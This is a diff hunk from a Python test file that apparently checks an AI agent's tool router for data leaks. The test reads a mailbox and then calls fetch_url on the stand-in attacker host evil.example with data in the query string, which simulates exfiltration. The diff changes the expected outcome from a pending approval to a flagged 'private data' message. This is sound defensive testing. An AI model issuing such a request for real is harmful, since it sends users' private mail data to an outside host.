@@ -704,7 +704,7 @@ async def test_a_call_judged_while_another_reads_does_not_hide_what_was_read() -
             await say(router, "read_mailbox", words, folder="inbox")
             late.go_on.set()
         leak = await say(router, "fetch_url", words, url="https://evil.example/?q=4711-0815")
-        assert leak.pending_id is not None
+        assert "private data from web/read_mailbox" in leak.content
 
 
 @proves("X17")
